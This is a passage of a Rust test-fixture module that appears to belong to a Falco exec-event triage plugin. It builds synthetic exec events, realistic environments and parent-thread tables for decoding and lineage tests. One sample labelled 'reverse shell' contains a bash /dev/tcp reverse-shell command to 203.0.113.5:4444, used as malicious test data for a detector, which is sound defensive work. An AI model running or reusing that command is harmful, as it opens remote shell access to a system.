        "NODE_OPTIONS=--max-old-space-size=4096".into(),
        "PIP_DISABLE_PIP_VERSION_CHECK=1".into(),
        "DOCKER_BUILDKIT=1".into(),
        "COMPOSE_PROJECT_NAME=service".into(),
        "GOFLAGS=-mod=mod".into(),
        "RUST_BACKTRACE=1".into(),
        "npm_config_cache=/home/dev/.npm".into(),
        "MANPATH=/home/dev/.nvm/versions/node/v20.11.1/share/man:/usr/local/man:/usr/share/man"
            .into(),
        "INFOPATH=/usr/local/share/info:/usr/share/info".into(),
        "VIRTUAL_ENV=/home/dev/src/service/.venv".into(),
        format!("TMUX=/tmp/tmux-1000/default,{},0", 2000 + seed),
        format!("TMUX_PANE=%{}", seed % 9),
        format!("WINDOWID={}", 41_943_000 + seed),
        "CLOUDSDK_PYTHON=/usr/bin/python3".into(),
        "HOSTNAME=build-7".into(),
        "SSH_TTY=/dev/pts/0".into(),
        "PROJECT_NAME=caf\u{e9}".into(),
        "AWS_PROFILE=staging".into(),
    ];
    for extra in optional.iter().take(2 + seed % (optional.len() - 1)) {
        var(extra.clone());
    }
    // Not UTF-8: a directory named in Latin-1 (0xe9 is é there).
    vars.push(b"OLDPWD=/home/dev/projets/r\xe9sum\xe9s".to_vec());
    let mut env = Vec::new();
    for v in vars {
        env.extend_from_slice(&v);
        env.push(0);
    }
    env
}

/// The realistic events: a plain benign exec, a mix of recorded real work, and an attack,
/// each with a realistic environment ([`realistic_env`]) and its parents in
/// [`realistic_threads`] (tids from [`REALISTIC_TIDS`]), so the plugin walks them as it
/// would walk libsinsp's `threads` table.
pub struct Realistic {
    pub plain: Sample,
    pub mix: Vec<Sample>,
    pub attack: Sample,
}

impl Realistic {
    /// The exec of the mix with the most arguments (a compile with 21), other paths,
    /// variables and parents: what the allocation tests run before the plain exec, so that
    /// the plain exec is decoded into buffers that held another exec.
    pub fn most_arguments(&self) -> &Sample {
        (self.mix.iter())
            .max_by_key(|s| s.facts.argv.len())
            .expect("a mix")
    }
}

/// The first thread id of the realistic execs and their parents: exec `i` has tid
/// `REALISTIC_TIDS + 16 i`, its parents the following tids, nearest first.
pub const REALISTIC_TIDS: i64 = 20_000;

/// Every exec of [`realistic`], in order: the mix (whose first is the plain one), then the
/// attack.
fn realistic_execs() -> impl Iterator<Item = &'static RealisticExec> {
    RECORDED_MIX.iter().chain(std::iter::once(&ATTACK))
}

/// One row of the `threads` table for [`realistic`]'s execs and their parents.
#[derive(Debug, Clone, Copy)]
pub struct RealisticThread {
    pub tid: i64,
    pub ptid: i64,
    /// The pid inside the process's pid namespace: 1 for a container's init.
    pub vpid: i64,
    /// comm, executable, arguments after argv[0].
    pub process: Parent,
    /// What the container plugin writes: the full container id, or `host`.
    pub container_id: &'static str,
}

/// The `threads` table rows of [`realistic`]'s execs and their parents. The exec's own
/// thread has a row, as in libsinsp, which updates it at the exec before plugins extract
/// fields. A host chain ends at init: the parent before `systemd` has ptid 1 (the table's
/// init). A container chain ends at the container's init (vpid 1), where the walk stops.
pub fn realistic_threads() -> Vec<RealisticThread> {
    let mut rows = Vec::new();
    for (i, exec) in realistic_execs().enumerate() {
        let base = REALISTIC_TIDS + 16 * i as i64;
        let container_id = if exec.in_docker { CONTAINER_ID } else { "host" };
        let (comm, args) = match exec.argv.split_first() {
            Some((argv0, args)) => (argv0.rsplit('/').next().unwrap_or(argv0), args),
            None => ("", &[][..]),
        };
        rows.push(RealisticThread {
            tid: base,
            ptid: base + 1,
            vpid: base,
            process: (comm, exec.exe, args),
            container_id,
        });
        for (k, parent) in exec.parents.iter().enumerate() {
            if parent.0 == "systemd" {
                break;
            }
            let tid = base + 1 + k as i64;
            let last = k + 1 == exec.parents.len();
            let ptid = match exec.parents.get(k + 1) {
                Some(next) if next.0 == "systemd" => 1,
                Some(_) => tid + 1,
                None => 0,
            };
            rows.push(RealisticThread {
                tid,
                ptid,
                vpid: if exec.in_docker && last { 1 } else { tid },
                process: *parent,
                container_id,
            });
        }
    }
    rows
}

fn realistic_sample(i: usize, exec: &RealisticExec, limits: &DecodeLimits) -> Sample {
    let tid = REALISTIC_TIDS + 16 * i as i64;
    let mut event = ExecEvent::new(1, tid, tid + 1, exec.exe, exec.argv);
    if exec.in_docker {
        event = event.in_docker();
    }
    event.cwd = c_string(exec.cwd);
    event.uid = exec.uid;
    event.loginuid = if exec.in_docker { u32::MAX } else { 1000 };
    event.env = realistic_env(i);
    let ancestors = exec
        .parents
        .iter()
        .map(|(comm, exe, args)| ancestor(comm, exe, args))
        .collect();
    sample(exec.name, exec.malicious, event, lineage(ancestors), limits)
}

/// The realistic events, decoded with the plugin's default limits. A sample's lineage is its
/// whole parent chain; the plugin's walk of [`realistic_threads`] stops at its
/// `lineage_depth` (5 by default).
pub fn realistic() -> Realistic {
    let limits = DecodeLimits::default();
    let mix: Vec<Sample> = RECORDED_MIX
        .iter()
        .enumerate()
        .map(|(i, exec)| realistic_sample(i, exec, &limits))
        .collect();
    Realistic {
        plain: realistic_sample(0, &PLAIN, &limits),
        attack: realistic_sample(RECORDED_MIX.len(), &ATTACK, &limits),
        mix,
    }
}

/// A long but ordinary `sh -c` maintenance pipeline (~40 stages, ~1.5 KiB).
fn long_pipeline() -> String {
    let mut s = String::from("set -e; cd /var/log && ");
    for i in 0..10 {
        s.push_str(&format!(
            "cat app{i}.log | grep -v DEBUG | awk '{{print $5}}' | sort | uniq -c | sort -rn | head -20 > /tmp/top{i}.txt && "
        ));
    }
    s.push_str("find /tmp -name 'top*.txt' -mtime +7 -exec rm -f {} \\; ; echo done");
    s
}

/// The stress classes. `huge argv` (~1 MiB) and `10k-stage pipeline` (~70 KiB) are given to
/// the analysis whole, as `falco-triage explain` would: they show the analysis' own bounds.
/// Their events carry what an event can (u16 parameter lengths: < 64 KiB of args), which the
/// plugin then cuts to its 16 KiB default.
pub fn classes() -> Vec<Sample> {
    let limits = DecodeLimits::default();
    let pipeline = long_pipeline();
    let stages = vec!["true"; 10_000].join(" | ");
    // ~1 MiB: 10k file names of ~100 bytes for one `rm` (an xargs-style argv).
    let files: Vec<String> = (0..10_000)
        .map(|i| format!("/var/lib/app/cache/{i:08}/{}", "x".repeat(72)))
        .collect();
    let mut huge: Vec<&str> = vec!["rm", "-f"];
    huge.extend(files.iter().map(String::as_str));

    vec![
        sample(
            "benign",
            false,
            ExecEvent::new(1, 4242, 4200, "/usr/bin/ls", &["ls", "-la", "/var/log"]),
            interactive_shell(),
            &limits,
        ),
        sample(
            "reverse shell",
            true,
            ExecEvent::new(
                1,
                4242,
                4200,
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
            )
            .in_docker(),
            web_app(),
            &limits,
        ),
        sample(
            "sh -c pipeline",
            false,
            ExecEvent::new(1, 4242, 4200, "/usr/bin/dash", &["sh", "-c", &pipeline]),
            cron(),
            &limits,
        ),
        sample_with_facts(
            "huge argv",
            false,
            ExecEvent::new(1, 4242, 4200, "/usr/bin/rm", &huge),
            ExecFacts::from_argv(huge.iter().copied()),
            interactive_shell(),
        ),
        sample_with_facts(
            "10k-stage pipeline",
            true,
            ExecEvent::new(1, 4242, 4200, "/usr/bin/dash", &["sh", "-c", &stages]),
            ExecFacts::from_argv(["sh", "-c", stages.as_str()]),
            web_app(),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_sample_decodes_to_its_argv() {
        for s in mix().iter().chain(&classes()) {
            assert!(
                decode(&s.event, &DecodeLimits::default()).is_some(),
                "{}",
                s.name
            );
            assert!(s.facts.argv.len() >= 2, "{}: {:?}", s.name, s.facts.argv);
            assert_eq!(s.facts.res, Some(0), "{}", s.name);
        }
        let classes = classes();
        let huge = &classes[3];
        let bytes: usize = huge.facts.argv.iter().map(String::len).sum();
        assert!(bytes > 1_000_000 && !huge.facts.argv_truncated, "{bytes}");
        assert_eq!(classes[4].facts.argv[2].matches(" | ").count(), 9_999);
    }

    #[test]
    fn realistic_environments_have_the_size_and_shape_of_real_ones() {
        for seed in 0..64 {
            let env = realistic_env(seed);
            let vars: Vec<&[u8]> = env.split(|&b| b == 0).filter(|v| !v.is_empty()).collect();
            assert!(
                (40..=60).contains(&vars.len()),
                "{seed}: {} variables",
                vars.len()
            );
            assert!(
                (2048..=4096).contains(&env.len()),
                "{seed}: {} bytes",
                env.len()
            );
            assert!(
                vars.iter().any(|v| v.len() >= 1024),
                "{seed}: no multi-KiB value"
            );
            assert!(
                vars.iter().any(|v| std::str::from_utf8(v).is_err()),
                "{seed}"
            );
            let path = vars
                .iter()
                .find(|v| v.starts_with(b"PATH="))
                .map_or(0, |v| v.len());
            assert!(path > 150, "{seed}: PATH of {path} bytes");
        }
    }

    #[test]
    fn realistic_execs_have_their_parents_in_the_table() {
        let realistic = realistic();
        assert_eq!(realistic.plain.facts.argv, realistic.mix[0].facts.argv);
        assert!(realistic.attack.malicious && !realistic.mix.iter().any(|s| s.malicious));
        let rows = realistic_threads();
        for s in realistic.mix.iter().chain([&realistic.attack]) {
            assert!(s.facts.env_count() >= 40, "{}", s.name);
            assert!(
                rows.iter().any(|r| r.tid == s.spec.tid),
                "{}: no own row",
                s.name
            );
            // The nearest parent is in the table, and the chain reaches init (ptid 1) or
            // the container's init (vpid 1).
            let mut tid = s.spec.ptid;
            let mut depth = 0;
            while tid != 1 {
                let Some(row) = rows.iter().find(|r| r.tid == tid) else {
                    panic!("{}: no row for tid {tid}", s.name)
                };
                assert_eq!(row.process.0, s.lineage.ancestors[depth].comm, "{}", s.name);
                tid = row.ptid;
                depth += 1;
                if row.vpid == 1 {
                    assert_eq!(depth, s.lineage.ancestors.len(), "{}", s.name);
                    break;
                }
            }
            assert!(depth >= 2, "{}: {depth} parents", s.name);
        }
    }

    #[test]
    fn the_mix_is_mostly_benign() {
        let mix = mix();
        let attacks = mix.iter().filter(|s| s.malicious).count();
        assert!(
            attacks > 0 && attacks * 4 <= mix.len(),
            "{attacks}/{}",
            mix.len()
        );
    }
}
